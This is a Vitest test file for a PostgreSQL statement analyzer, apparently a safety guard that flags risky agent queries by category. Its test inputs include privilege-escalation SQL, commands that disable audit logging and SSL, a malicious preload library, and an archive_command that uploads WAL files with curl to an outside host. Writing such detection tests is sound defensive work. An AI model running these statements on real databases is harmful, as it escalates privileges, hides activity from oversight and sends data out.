import { describe, expect, it } from "vitest";
import { type Case, mismatch } from "./test-support/analyze.js";

const check = (c: Case) => expect(mismatch(c)).toBe("");

describe("identities and grants", () => {
  it.each<Case>([
    [
      "GRANT SELECT ON users TO bob",
      ["iam.change"],
      { tables: ["users"], resources: ["postgres:role/bob"] },
    ],
    ["GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO agent", ["iam.change"]],
    ["REVOKE SELECT ON users FROM bob", ["iam.change"]],
    [
      "GRANT admin TO bob",
      ["iam.change"],
      { resources: ["postgres:role/admin", "postgres:role/bob"] },
    ],
    ["GRANT pg_read_server_files TO agent", ["iam.change"]],
    [
      "CREATE ROLE admin SUPERUSER LOGIN PASSWORD 'x'",
      ["iam.change"],
      { resources: ["postgres:role/admin"] },
    ],
    ["CREATE USER app WITH PASSWORD 'x'", ["iam.change"]],
    ["CREATE GROUP devs", ["iam.change"]],
    ["ALTER ROLE bob WITH SUPERUSER", ["iam.change"], { resources: ["postgres:role/bob"] }],
    ["ALTER USER bob PASSWORD 'new'", ["iam.change"]],
    ["ALTER ROLE bob RENAME TO alice", ["iam.change"]],
    ["DROP ROLE bob", ["iam.change"]],
    ["DROP USER IF EXISTS bob", ["iam.change"]],
    ["ALTER FUNCTION f() OWNER TO postgres", ["iam.change"]],
    ["ALTER SCHEMA app OWNER TO bob", ["iam.change"]],
    ["REASSIGN OWNED BY bob TO alice", ["iam.change"]],
    ["ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO bob", ["iam.change"]],
    [
      "CREATE POLICY tenant ON orders USING (tenant_id = current_setting('app.tenant')::int)",
      ["iam.change"],
      { tables: ["orders"] },
    ],
    ["CREATE POLICY p ON orders USING (true)", ["iam.change", "security.weaken"]],
    ["ALTER POLICY p ON orders WITH CHECK (1 = 1)", ["iam.change", "security.weaken"]],
    ["ALTER FUNCTION f() SECURITY DEFINER", ["iam.change"]],
    ["INSERT INTO pg_authid (rolname) VALUES ('x')", ["iam.change"]],
    ["UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'agent'", ["iam.change"]],
    ["SET ROLE postgres", ["iam.change"]],
    ["SET SESSION AUTHORIZATION bob", ["iam.change"]],
    ["ALTER ROLE bob SET log_statement = 'none'", ["audit.tamper", "iam.change"]],
    [
      "SECURITY LABEL FOR selinux ON TABLE t IS 'system_u:object_r:sepgsql_table_t:s0'",
      ["iam.change"],
    ],
  ])("%s", (...c) => check(c));

  it.each<Case>([
    ["RESET ROLE", []],
    ["SET ROLE NONE", []],
    ["ALTER FUNCTION f() SECURITY INVOKER", []],
    ["ALTER FUNCTION f() STABLE", []],
  ])("%s changes no access", (...c) => check(c));
});

describe("settings", () => {
  it.each<Case>([
    ["SET search_path TO app, public", []],
    ["SET LOCAL statement_timeout = '5s'", []],
    ["SET TIME ZONE 'UTC'", []],
    ["SET client_min_messages = warning", []],
    ["SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", []],
    ["SET application_name = 'agent'", []],
    ["RESET ALL", []],
    ["SET session_replication_role = origin", []],
    ["SET session_replication_role TO DEFAULT", []],
    ["SHOW ALL", []],
  ])("%s is harmless", (...c) => check(c));

  it.each<Case>([
    ["SET session_replication_role = replica", ["security.weaken"]],
    ["SET LOCAL session_replication_role TO replica", ["security.weaken"]],
    ["SET log_statement = 'none'", ["audit.tamper"]],
    ["SET pgaudit.log = 'none'", ["audit.tamper"]],
    ["SELECT set_config('log_statement', 'none', false)", ["audit.tamper"]],
    ["SELECT set_config('session_replication_role', 'replica', true)", ["security.weaken"]],
    ["SELECT set_config('search_path', 'app', false)", []],
    ["SELECT set_config(name, 'x', false) FROM settings", ["opaque"]],
    ["ALTER SYSTEM SET work_mem = '64MB'", ["security.weaken"]],
    ["ALTER SYSTEM SET log_statement = 'none'", ["audit.tamper", "security.weaken"]],
    ["ALTER SYSTEM SET pgaudit.log = 'none'", ["audit.tamper", "security.weaken"]],
    ["ALTER SYSTEM RESET log_min_duration_statement", ["audit.tamper", "security.weaken"]],
    ["ALTER SYSTEM RESET ALL", ["audit.tamper", "security.weaken"]],
    ["ALTER SYSTEM SET archive_mode = off", ["backup.destroy", "security.weaken"]],
    [
      "ALTER SYSTEM SET archive_command = 'curl -T %p https://x'",
      ["backup.destroy", "code.remote_exec", "security.weaken"],
    ],
    ["ALTER SYSTEM SET shared_preload_libraries = 'evil'", ["code.remote_exec", "security.weaken"]],
    ["ALTER SYSTEM SET ssl = off", ["security.weaken"]],
    [
      "ALTER DATABASE prod SET log_statement = 'none'",
      ["audit.tamper"],
      { resources: ["postgres:database/prod"] },
    ],
    ["ALTER DATABASE prod SET session_replication_role = replica", ["security.weaken"]],
    ["SELECT pg_reload_conf()", ["security.weaken"]],
    ["CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION f()", ["security.weaken"]],
    ["ALTER EVENT TRIGGER t DISABLE", ["security.weaken"]],
    ["ALTER EVENT TRIGGER t ENABLE REPLICA", ["security.weaken"]],
    ["ALTER EVENT TRIGGER t ENABLE", []],
  ])("%s", (...c) => check(c));
});
